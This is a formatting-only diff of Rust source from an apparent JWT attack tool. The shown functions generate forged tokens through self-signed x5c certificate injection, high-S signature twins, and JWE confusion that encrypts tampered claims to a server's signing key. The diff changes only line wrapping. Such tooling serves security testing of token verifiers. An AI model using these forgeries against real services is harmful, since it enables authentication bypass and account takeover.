@@ -22,7 +22,10 @@ pub fn x5c(b: &Base, fresh: &mut FreshKeys, push: &mut impl FnMut(String, String
     for m in ["jwk", "jku", "x5u", "x5c", "x5t", "x5t#S256"] {
         h.remove(m);
     }
-    h.insert("kid".into(), Value::String(k.kid.clone().unwrap_or_default()));
+    h.insert(
+        "kid".into(),
+        Value::String(k.kid.clone().unwrap_or_default()),
+    );
     h.insert("x5c".into(), Value::Array(vec![Value::String(cert)]));
     push(
         "RS256, fresh key in a self-signed x5c certificate".into(),
@@ -91,7 +94,12 @@ pub fn high_s(b: &Base, sig: &[u8], push: &mut impl FnMut(String, String)) {
     let flipped = if s > &half(&n)[..] { "low" } else { "high" };
     push(
         format!("{alg}, s replaced by n - s ({flipped}-S twin, same claims)"),
-        format!("{}.{}.{}", seg(&b.header), b.payload_seg, b64::encode(&twin)),
+        format!(
+            "{}.{}.{}",
+            seg(&b.header),
+            b.payload_seg,
+            b64::encode(&twin)
+        ),
     );
 }
 
@@ -118,7 +126,11 @@ pub fn jwe_confusion(
         return Ok(());
     };
     let claims = serde_json::to_vec(&b.tampered).unwrap_or_default();
-    for k in pk.keys.iter().filter(|k| matches!(k.key, Key::Rsa(_) | Key::Ec(_))) {
+    for k in pk
+        .keys
+        .iter()
+        .filter(|k| matches!(k.key, Key::Rsa(_) | Key::Ec(_)))
+    {
         // The key is the server's signing key (use sig, alg RS256…): the attack is using
         // it for encryption anyway, so its restrictions are dropped.
         let mut public = k.to_public()?;
@@ -126,7 +138,10 @@ pub fn jwe_confusion(
         public.use_ = None;
         public.key_ops = None;
         let kid = public.kid.clone().or_else(|| {
-            b.header.get("kid").and_then(Value::as_str).map(str::to_owned)
+            b.header
+                .get("kid")
+                .and_then(Value::as_str)
+                .map(str::to_owned)
         });
         for enc in [Enc::A256Gcm, Enc::A128CbcHs256] {
             let o = EncryptOptions {
@@ -136,7 +151,10 @@ pub fn jwe_confusion(
             };
             let token = jwe::encrypt(&JweKey::Jwk(public.clone()), &o, &claims)?;
             push(
-                format!("tampered claims encrypted to the {} public key ({enc})", k.kty()),
+                format!(
+                    "tampered claims encrypted to the {} public key ({enc})",
+                    k.kty()
+                ),
                 token,
             );
         }
@@ -179,8 +197,8 @@ mod tests {
         assert_eq!(forged.len(), 1);
         let j = jws(&forged[0]);
         let der = base64ct::Base64::decode_vec(j.header["x5c"][0].as_str().unwrap()).unwrap();
-        let pem = pem_rfc7468::encode_string("CERTIFICATE", pem_rfc7468::LineEnding::LF, &der)
-            .unwrap();
+        let pem =
+            pem_rfc7468::encode_string("CERTIFICATE", pem_rfc7468::LineEnding::LF, &der).unwrap();
         let key = keys::read(pem.as_bytes(), &ReadOptions::default())
             .unwrap()
             .into_keys()
